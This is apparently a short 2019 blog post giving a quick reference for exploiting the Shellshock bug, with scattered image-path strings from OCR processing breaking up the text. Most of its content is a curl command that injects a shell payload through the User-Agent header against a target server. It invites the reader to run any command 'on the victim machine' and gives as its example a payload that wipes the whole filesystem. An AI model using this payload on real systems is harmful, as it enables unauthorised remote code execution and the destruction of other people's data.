Exploiting Shell Shock - Quick Reference

Apr 27, 2019

There's a really good CloudFlare article on Shellshock here.

curl -H "User-Agent: () { :; }; <command>" http://TARGET_IP/

Replace<command> with the command you want to execute on the victim machine.

For example:

curl -H "User-Agent: () { :; }; /bin/rm -rf / --no-preserve-root" http://TARGET_IP/
Great! You've successfully subscribed.
Great! Next, complete checkout for full access.
Welcomeback! You've successfully signed in.
Success! Your account isfully activated, you now haveaccess to all content.